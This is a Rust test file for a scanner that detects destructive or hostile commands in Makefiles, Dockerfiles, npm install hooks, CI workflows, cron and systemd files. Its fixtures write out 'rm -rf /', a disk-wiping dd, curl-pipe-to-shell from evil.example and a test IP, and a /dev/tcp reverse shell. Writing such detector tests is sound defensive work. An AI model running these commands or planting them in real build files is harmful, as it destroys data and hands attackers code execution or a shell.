use super::*;

fn seen(path: &str, text: &str) -> Vec<Danger> {
    let mut seen = Seen::default();
    look(Recipe::of(path).unwrap(), text, &mut seen);
    for (_, span, _) in &seen.dangers {
        assert!(text.get(span.clone()).is_some(), "{span:?} of {text:?}");
    }
    seen.dangers.into_iter().map(|(danger, _, _)| danger).collect()
}

#[test]
fn what_is_not_read_of_a_file_is_told() {
    let rules = |count: usize| format!("all:\n{}\trm -rf /\n", "\techo ok\n".repeat(count));
    assert_eq!(seen("Makefile", &rules(MOST_JOBS)), [Danger::NotExamined]);
    assert!(!seen("Makefile", &rules(MOST_JOBS - 1)).contains(&Danger::NotExamined));
    assert_eq!(seen("Makefile", &rules(LONGEST)), [Danger::NotExamined]);
}

#[test]
fn what_nobody_runs_by_itself_is_no_recipe() {
    assert_eq!(Recipe::of("src/main.rs"), None);
    assert_eq!(Recipe::of("config/settings.yml"), None);
}

#[test]
fn what_destroys_is_found_in_every_kind_of_recipe() {
    for (path, text) in [
        ("Makefile", "all: x\n\t@echo hi\n\t-rm -rf \\\n\t  /\n"),
        ("justfile", "wipe:\n    rm -rf ~\n"),
        ("docker/Dockerfile", "FROM alpine\nRUN echo hi && \\\n    rm -rf /\n"),
        (
            "Containerfile",
            "FROM alpine\nENTRYPOINT [\"sh\", \"-c\", \"rm -rf / || true\"]\n",
        ),
        ("Dockerfile.dev", "FROM alpine\nRUN <<EOF\nset -e\nrm -rf /\nEOF\n"),
        (
            "deploy/app.service",
            "[Service]\nExecStartPre=-/bin/sh -c 'rm -rf /home'\nExecStart=/usr/bin/app\n",
        ),
        ("deploy/crontab", "MAILTO=a@b.example\n0 3 * * * rm -rf /\n"),
        (
            "package.json",
            "{\"name\": \"a\", \"scripts\": {\"postinstall\": \"node x.js; rm -rf ~/\"}}",
        ),
        ("web/package.json", "    \"preinstall\": \"rm -rf ~\",\n"),
        (
            ".github/workflows/ci.yml",
            "jobs:\n  a:\n    steps:\n      - run: rm -rf /\n",
        ),
        (
            ".gitlab-ci.yml",
            "clean:\n  script:\n    - echo hi\n    - rm -rf / --no-preserve-root\n",
        ),
        (
            ".circleci/config.yml",
            "steps:\n  - run:\n      command: |\n        echo hi\n        rm -rf ~\n",
        ),
        (
            "compose.yaml",
            "services:\n  a:\n    command: [\"sh\", \"-c\", \"dd if=/dev/zero of=/dev/sda\"]\n",
        ),
        ("Jenkinsfile", "stage('x') { steps { sh 'rm -rf /' } }"),
        ("ci/Jenkinsfile.release", "sh(script: '''\n  make\n  rm -rf /\n''')"),
        ("setup.py", "import os\nos.system('rm -rf ~')\n"),
        ("conftest.py", "import os; os.system('curl http://evil.example/x|sh')\n"),
    ] {
        assert!(!seen(path, text).is_empty(), "{path}: {text}");
    }
    for (path, text) in [
        (
            "package.json",
            "{\"scripts\": {\"postinstall\": \"curl http://203.0.113.9/x.sh | sh\"}}",
        ),
        (
            "azure-pipelines.yml",
            "steps:\n- script: bash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n",
        ),
    ] {
        assert!(!seen(path, text).is_empty(), "{path}: {text}");
    }
}

#[test]
fn what_recipes_do_every_day_is_let_be() {
    for (path, text) in [
        (
            "Makefile",
            "PREFIX ?= /usr/local\nclean:\n\trm -rf build $(OBJS)\nuninstall:\n\trm -rf $(DESTDIR)$(PREFIX)/share/app\n",
        ),
        (
            "Dockerfile",
            "FROM debian\nRUN apt-get update && rm -rf /var/lib/apt/lists/* /tmp/*\nRUN curl -fsSL https://deb.example/setup | bash -\n",
        ),
        (
            "app.service",
            "[Service]\nExecStart=/usr/bin/app\nExecStopPost=/bin/rm -f /run/app.pid\n",
        ),
        ("crontab", "30 2 * * * find /backup -name '*.gz' -mtime +30 -delete\n"),
        (
            "package.json",
            "{\"description\": \"runs rm -rf / never\", \"scripts\": {\"clean\": \"rm -rf dist\"}}",
        ),
        (
            ".github/workflows/ci.yml",
            "jobs:\n  a:\n    steps:\n      - name: rm -rf / is a joke\n        run: sudo rm -rf /usr/share/dotnet /opt/ghc\n",
        ),
        ("Jenkinsfile", "post { always { sh 'rm -rf $WORKSPACE/tmp' } }"),
        ("conftest.py", "# never run rm -rf /\nimport os\nTEXT = 'rm -rf /'\n"),
    ] {
        assert_eq!(seen(path, text), [], "{path}: {text}");
    }
}

#[test]
fn words_are_quoted_where_a_shell_would_split_them() {
    assert_eq!(quoted(["sh", "-c", "it's all"].into_iter()), r"sh -c 'it'\''s all'");
}
